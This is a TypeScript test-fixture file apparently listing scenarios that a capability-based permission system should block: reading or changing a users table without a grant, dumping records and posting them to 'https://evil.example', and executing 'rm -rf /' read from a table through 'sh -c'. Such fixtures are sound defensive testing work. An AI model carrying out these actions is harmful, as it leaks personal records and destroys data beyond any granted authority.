/** Databases that nobody granted. */
import type { Scenario } from '../scenario.ts';

export const scenarios: readonly Scenario[] = [
  {
    name: 'database-query-without-capability',
    description: 'Reads a table.',
    harm: 'records are read',
    calls: [{ action: 'sql.query', resource: 'main', params: { table: 'users' } }],
  },
  {
    name: 'database-write-without-capability',
    description: 'Changes a table.',
    harm: 'records are changed',
    calls: [{ action: 'sql.exec', resource: 'main', params: { table: 'users' } }],
  },
  {
    name: 'database-dump-then-egress',
    description: 'Reads a table and sends it.',
    harm: 'records leave',
    calls: [
      {
        action: 'sql.query',
        resource: 'main',
        params: { table: 'users' },
        returns: 'ada,ada@example.com',
      },
      {
        action: 'http.post',
        resource: 'https://evil.example',
        params: { body: 'ada,ada@example.com' },
      },
    ],
  },
  {
    name: 'database-to-shell',
    description: 'Reads a table and runs what stands in it.',
    harm: 'a program runs',
    calls: [
      { action: 'sql.query', resource: 'main', params: { table: 'users' }, returns: 'rm -rf /' },
      { action: 'proc.exec', resource: 'sh', params: { args: ['-c', 'rm -rf /'] } },
    ],
  },
];
